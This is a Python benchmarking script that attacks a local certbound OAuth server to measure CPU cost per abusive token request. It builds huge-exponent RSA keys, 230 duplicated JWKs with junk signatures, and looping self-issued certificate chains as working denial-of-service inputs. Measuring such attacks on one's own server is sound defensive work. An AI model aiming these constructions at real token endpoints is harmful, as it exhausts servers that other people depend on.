#!/usr/bin/env python3
"""Server CPU per abusive request (issue 9 findings 3 and 4), from /proc of a real `certbound serve`.

Starts `certbound serve` (one process, 127.0.0.1, a fresh SQLite database, trustme PKI) from a
source tree (this checkout by default; `--source DIR` for another, e.g. an unpacked older commit),
stores the attacker's client *directly in the database*, so that the same client is attacked
before and after a change that would refuse to register it, reports whether `certbound clients
add` accepts that client, then sends the attack sequentially and reads the server's utime+stime
from /proc/<pid>/stat around each round. Prints each round's CPU per request and the median.

Attacks:
  assertion-230    private_key_jwt, 230 copies of a huge-exponent RSA-3072 JWK (no kid), RS256
                   assertions without kid and with a junk signature (the issue's attack)
  assertion-max    the worst the key policy admits: 16 RSA-8192 keys with e = 2^32 + 1, each with a
                   kid; assertions name one kid and carry a junk signature (one verification each)
  assertion-nokid  the same 16 keys, assertions without kid (refused before any verification now)
  chain-8          tls_client_auth, a leaf sent with 8 self-issued intermediates that share one
                   name and one huge-exponent RSA-3072 key (the issue's path-building attack); all
                   requests of a round on one keep-alive connection
  chain-8-fresh    the same chain shape, a new leaf and a new TLS connection per request (so no
                   cache can answer); includes the handshake, so compare with `baseline-fresh`
  baseline-fresh   a valid tls_client_auth client through one intermediate, a new connection per
                   request: the handshake + token cost the chain-8-fresh figure contains

    .venv/bin/python scripts/abuse_cpu.py --attack assertion-230 --requests 10 --rounds 5
    .venv/bin/python scripts/abuse_cpu.py --attack chain-8 --source /tmp/cb-base

Every round opens one connection (a new one per request for the `-fresh` attacks); the request
that opens a keep-alive connection is not counted, so the assertion and chain-8 figures hold no
handshake. CPU time comes in clock ticks (10 ms): use enough requests per round for cheap attacks.
"""

from __future__ import annotations

import argparse
import base64
import http.client
import json
import math
import os
import secrets
import signal
import socket
import ssl
import statistics
import subprocess
import sys
import tempfile
import time
import uuid
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import trustme
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID

ROOT = Path(__file__).resolve().parents[1]
ATTACKS = ("assertion-230", "assertion-max", "assertion-nokid", "chain-8", "chain-8-fresh", "baseline-fresh")
_TICKS = os.sysconf("SC_CLK_TCK")
_JWT_BEARER = "urn:ietf:params:oauth:client-assertion-type:jwt-bearer"


def _b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def _int_b64url(number: int) -> str:
    return _b64url(number.to_bytes((number.bit_length() + 7) // 8, "big"))


def huge_exponent_key(bits: int) -> rsa.RSAPrivateKey:
    """An RSA key whose public exponent is nearly as long as its modulus."""
    numbers = rsa.generate_private_key(public_exponent=65537, key_size=bits).private_numbers()
    p, q = numbers.p, numbers.q
    order = math.lcm(p - 1, q - 1)
    exponent = (1 << (bits - 2)) + 1
    while math.gcd(exponent, order) != 1:
        exponent += 2
    d = pow(exponent, -1, order)
    public = rsa.RSAPublicNumbers(exponent, p * q)
    return rsa.RSAPrivateNumbers(p, q, d, d % (p - 1), d % (q - 1), pow(q, -1, p), public).private_key()


def _rsa_jwk(n: int, e: int, kid: str | None = None) -> dict[str, str]:
    jwk = {"kty": "RSA", "n": _int_b64url(n), "e": _int_b64url(e)}
    if kid is not None:
        jwk["kid"] = kid
    return jwk


def _junk_assertion(client_id: str, audience: str, kid: str | None, signature_bytes: int) -> str:
    header: dict[str, str] = {"alg": "RS256"}
    if kid is not None:
        header["kid"] = kid
    now = int(time.time())
    claims = {
        "iss": client_id,
        "sub": client_id,
        "aud": audience,
        "iat": now,
        "exp": now + 120,
        "jti": uuid.uuid4().hex,
    }
    segments = [_b64url(json.dumps(part).encode()) for part in (header, claims)]
    # A leading 0x00 keeps the junk below any modulus of that size, so every key does the full
    # modular exponentiation instead of refusing an out-of-range signature at once.
    return ".".join([*segments, _b64url(b"\x00" + secrets.token_bytes(signature_bytes - 1))])


# --- PKI ---------------------------------------------------------------------------------------------


def _name(common_name: str) -> x509.Name:
    return x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, common_name)])


def _certificate(
    subject: x509.Name, issuer: x509.Name, public: Any, signer: Any, *, ca: bool
) -> x509.Certificate:
    """A certificate the web-PKI profile would accept in a path (key identifiers, key usage), so
    the path builder does check its signatures."""
    now = time.time()
    builder = (
        x509.CertificateBuilder()
        .subject_name(subject)
        .issuer_name(issuer)
        .public_key(public)
        .serial_number(x509.random_serial_number())
        .not_valid_before(_datetime(now - 86400))
        .not_valid_after(_datetime(now + 86400))
        .add_extension(x509.BasicConstraints(ca=ca, path_length=None), critical=True)
        .add_extension(
            x509.AuthorityKeyIdentifier.from_issuer_public_key(signer.public_key()), critical=False
        )
    )
    if ca:
        bits = (
            "digital_signature",
            "content_commitment",
            "key_encipherment",
            "data_encipherment",
            "key_agreement",
        )
        usage = x509.KeyUsage(
            **dict.fromkeys(bits, False),
            key_cert_sign=True,
            crl_sign=True,
            encipher_only=False,
            decipher_only=False,
        )
        builder = builder.add_extension(usage, critical=True).add_extension(
            x509.SubjectKeyIdentifier.from_public_key(public), critical=False
        )
    else:
        builder = builder.add_extension(
            x509.ExtendedKeyUsage([ExtendedKeyUsageOID.CLIENT_AUTH]), critical=False
        )
    return builder.sign(signer, hashes.SHA256())


def _datetime(timestamp: float) -> Any:
    import datetime

    return datetime.datetime.fromtimestamp(timestamp, datetime.UTC)


def _pem(cert: x509.Certificate) -> bytes:
    return cert.public_bytes(Encoding.PEM)


def _write_identity(directory: Path, leaf_key: Any, certs: list[x509.Certificate]) -> tuple[Path, Path]:
    stem = uuid.uuid4().hex
    cert_file, key_file = directory / f"{stem}.pem", directory / f"{stem}.key"
    cert_file.write_bytes(b"".join(map(_pem, certs)))
    key_file.write_bytes(leaf_key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption()))
    return cert_file, key_file


@dataclass
class Pki:
    server_ca: trustme.CA
    client_ca_key: ec.EllipticCurvePrivateKey
    client_ca: x509.Certificate
    loop_key: rsa.RSAPrivateKey | None = None

    def loop_chain(self, directory: Path) -> tuple[Path, Path]:
        """A leaf and 8 self-issued 'Loop CA' certificates sharing one huge-exponent key."""
        if self.loop_key is None:
            self.loop_key = huge_exponent_key(3072)
        loop_name = _name("Loop CA")
        loop = [
            _certificate(loop_name, loop_name, self.loop_key.public_key(), self.loop_key, ca=True)
            for _ in range(8)
        ]
        leaf_key = ec.generate_private_key(ec.SECP256R1())
        leaf = _certificate(_name("abuser"), loop_name, leaf_key.public_key(), self.loop_key, ca=False)
        return _write_identity(directory, leaf_key, [leaf, *loop])

    def good_chain(self, directory: Path) -> tuple[Path, Path]:
        """A leaf of the client CA through one intermediate."""
        middle_key = ec.generate_private_key(ec.SECP256R1())
        middle = _certificate(
            _name("Issuing CA"), self.client_ca.subject, middle_key.public_key(), self.client_ca_key, ca=True
        )
        leaf_key = ec.generate_private_key(ec.SECP256R1())
        leaf = _certificate(_name("good"), middle.subject, leaf_key.public_key(), middle_key, ca=False)
        return _write_identity(directory, leaf_key, [leaf, middle])


# --- the server --------------------------------------------------------------------------------------


def _cpu_seconds(pid: int) -> float:
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / _TICKS  # utime, stime (fields 14 and 15)


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port: int = probe.getsockname()[1]
        return port


@dataclass
class Server:
    process: subprocess.Popen[str]
    port: int

    @property
    def issuer(self) -> str:
        return f"https://localhost:{self.port}"


def _env(source: Path, directory: Path) -> dict[str, str]:
    """Import `certbound` from `source`/server, whatever the venv's own install points at."""
    link = directory / "src"
    link.mkdir(exist_ok=True)
    (link / "certbound").symlink_to(source / "server")
    env = {name: value for name, value in os.environ.items() if not name.startswith("CERTBOUND_")}
    env["PYTHONPATH"] = str(link)
    return env


def _certbound(env: dict[str, str], *args: str, **kwargs: Any) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "certbound", *args],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        **kwargs,
    )


def _store_client(env: dict[str, str], db: Path, client_id: str, metadata: dict[str, Any]) -> None:
    """Insert the client as an older server would have stored it, with no validation."""
    program = (
        "import asyncio, json, sys, time\n"
        "from certbound.models import Client\n"
        "from certbound.store.sqlite import SQLiteStore\n"
        "async def main():\n"
        "    store = SQLiteStore(sys.argv[1])\n"
        "    await store.open()\n"
        "    await store.create_client(Client(sys.argv[2], json.loads(sys.stdin.read()), int(time.time())))\n"
        "    await store.close()\n"
        "asyncio.run(main())\n"
    )
    subprocess.run(
        [sys.executable, "-c", program, str(db), client_id],
        input=json.dumps(metadata),
        env=env,
        text=True,
        check=True,
        timeout=120,
    )


def _registration_verdict(env: dict[str, str], db: Path, metadata: dict[str, Any], directory: Path) -> str:
    data = directory / "registration.json"
    data.write_text(json.dumps(metadata))
    result = _certbound(env, "clients", "add", "--db", f"sqlite:///{db}", "--data", str(data))
    if result.returncode == 0:
        return "accepted by `certbound clients add`"
    return "refused by `certbound clients add`: " + result.stderr.strip().splitlines()[-1][:200]


@contextmanager
def _serving(env: dict[str, str], db: Path, pki: Pki, directory: Path) -> Iterator[Server]:
    port = _free_port()
    leaf = pki.server_ca.issue_cert("localhost", "127.0.0.1")
    cert, key, client_ca = directory / "server.pem", directory / "server.key", directory / "client-ca.pem"
    cert.write_bytes(b"".join(blob.bytes() for blob in leaf.cert_chain_pems))
    key.write_bytes(leaf.private_key_pem.bytes())
    client_ca.write_bytes(_pem(pki.client_ca))
    process = subprocess.Popen(
        [
            sys.executable, "-m", "certbound", "serve", "--host", "127.0.0.1", "--port", str(port),
            "--db", f"sqlite:///{db}", "--tls-cert", str(cert), "--tls-key", str(key),
            "--client-ca", str(client_ca), "--issuer", f"https://localhost:{port}", "--drain-timeout", "1",
        ],
        env=env, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True,
    )  # fmt: skip
    try:
        assert process.stdout is not None
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            line = process.stdout.readline()
            if line.startswith("listening on "):
                break
            if not line and process.poll() is not None:
                raise SystemExit("certbound serve exited before it was ready")
        yield Server(process, port)
    finally:
        if process.poll() is None:
            process.send_signal(signal.SIGTERM)
            try:
                process.wait(20)
            except subprocess.TimeoutExpired:
                process.kill()
                process.wait()


# --- the client side ---------------------------------------------------------------------------------


def _context(pki: Pki, identity: tuple[Path, Path] | None) -> ssl.SSLContext:
    context = ssl.create_default_context()
    pki.server_ca.configure_trust(context)
    if identity is not None:
        context.load_cert_chain(*identity)
    return context


def _post(connection: http.client.HTTPSConnection, form: dict[str, str]) -> int:
    body = "&".join(f"{name}={value}" for name, value in form.items())
    connection.request(
        "POST", "/token", body=body, headers={"Content-Type": "application/x-www-form-urlencoded"}
    )
    response = connection.getresponse()
    response.read()
    return response.status


def _connect(server: Server, context: ssl.SSLContext) -> http.client.HTTPSConnection:
    return http.client.HTTPSConnection("localhost", server.port, context=context, timeout=120)


@dataclass
class Plan:
    """One attack: the client to store, and a function sending `n` attack requests that returns
    their statuses and the server CPU seconds they cost."""

    metadata: dict[str, Any]
    send: Callable[[Server, int], tuple[list[int], float]]


def _assertion_plan(keys: list[dict[str, str]], kid: str | None, signature_bytes: int, pki: Pki) -> Plan:
    metadata = {
        "token_endpoint_auth_method": "private_key_jwt",
        "grant_types": ["client_credentials"],
        "jwks": {"keys": keys},
    }

    def send(server: Server, n: int) -> tuple[list[int], float]:
        forms = [
            {
                "grant_type": "client_credentials",
                "client_assertion_type": _JWT_BEARER,
                "client_assertion": _junk_assertion("abuser", server.issuer, kid, signature_bytes),
            }
            for _ in range(n)
        ]
        connection = _connect(server, _context(pki, None))
        try:
            _post(connection, {"grant_type": "client_credentials"})  # the handshake, not counted
            before = _cpu_seconds(server.process.pid)
            statuses = [_post(connection, form) for form in forms]
            return statuses, _cpu_seconds(server.process.pid) - before
        finally:
            connection.close()

    return Plan(metadata, send)


def _mtls_plan(pki: Pki, directory: Path, *, chain: str, fresh: bool) -> Plan:
    subject = "CN=abuser" if chain == "loop" else "CN=good"
    metadata = {
        "token_endpoint_auth_method": "tls_client_auth",
        "grant_types": ["client_credentials"],
        "tls_client_auth_subject_dn": subject,
    }
    form = {"grant_type": "client_credentials", "client_id": "abuser"}
    make = pki.loop_chain if chain == "loop" else pki.good_chain

    def send(server: Server, n: int) -> tuple[list[int], float]:
        if fresh:
            contexts = [_context(pki, make(directory)) for _ in range(n)]
            before = _cpu_seconds(server.process.pid)
            statuses = []
            for context in contexts:
                connection = _connect(server, context)
                try:
                    statuses.append(_post(connection, form))
                finally:
                    connection.close()
            return statuses, _cpu_seconds(server.process.pid) - before
        # One keep-alive connection; its first request (with the handshake) is not counted.
        connection = _connect(server, _context(pki, make(directory)))
        try:
            _post(connection, form)
            before = _cpu_seconds(server.process.pid)
            statuses = [_post(connection, form) for _ in range(n)]
            return statuses, _cpu_seconds(server.process.pid) - before
        finally:
            connection.close()

    return Plan(metadata, send)


def _plan(attack: str, pki: Pki, directory: Path) -> Plan:
    if attack == "assertion-230":
        public = huge_exponent_key(3072).public_key().public_numbers()
        return _assertion_plan([_rsa_jwk(public.n, public.e)] * 230, None, 384, pki)
    if attack in ("assertion-max", "assertion-nokid"):
        # 8192-bit moduli with e = 2^32 + 1: a verification costs what a real key's would; no
        # factoring-grade key generation is needed to measure it.
        keys = [
            _rsa_jwk(secrets.randbits(8191) | (1 << 8191) | 1, 2**32 + 1, f"k{index}") for index in range(16)
        ]
        return _assertion_plan(keys, "k7" if attack == "assertion-max" else None, 1024, pki)
    if attack == "baseline-fresh":
        return _mtls_plan(pki, directory, chain="good", fresh=True)
    return _mtls_plan(pki, directory, chain="loop", fresh=attack == "chain-8-fresh")


def main() -> None:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--attack", choices=ATTACKS, required=True)
    parser.add_argument(
        "--source", type=Path, default=ROOT, help="certbound source tree (default: this checkout)"
    )
    parser.add_argument("--requests", type=int, default=10, help="attack requests per round")
    parser.add_argument("--rounds", type=int, default=5)
    args = parser.parse_args()

    with tempfile.TemporaryDirectory(prefix="certbound-abuse-") as tmp:
        directory = Path(tmp)
        env = _env(args.source.resolve(), directory)
        db = directory / "abuse.db"
        client_ca_key = ec.generate_private_key(ec.SECP256R1())
        client_ca = _certificate(
            _name("Client CA"), _name("Client CA"), client_ca_key.public_key(), client_ca_key, ca=True
        )
        pki = Pki(trustme.CA(), client_ca_key, client_ca)
        plan = _plan(args.attack, pki, directory)
        print(f"source {args.source}; attack {args.attack}")
        print(
            "registration:",
            _registration_verdict(env, directory / "registration.db", plan.metadata, directory),
        )
        _store_client(env, db, "abuser", plan.metadata)
        with _serving(env, db, pki, directory) as server:
            pid = server.process.pid
            statuses, _ = plan.send(server, 1)  # warm-up: imports, caches, the first connection
            print(f"server pid {pid}; warm-up answers {sorted(set(statuses))}")
            per_request: list[float] = []
            for round_ in range(args.rounds):
                statuses, seconds = plan.send(server, args.requests)
                per_request.append(seconds / args.requests)
                answers = sorted(set(statuses))
                print(
                    f"round {round_ + 1}: {per_request[-1] * 1000:.1f} ms CPU per request; answers {answers}"
                )
            median = statistics.median(per_request) * 1000
            print(
                f"median: {median:.1f} ms server CPU per request "
                f"({args.rounds} rounds of {args.requests}, utime+stime from /proc/{pid}/stat)"
            )


if __name__ == "__main__":
    main()
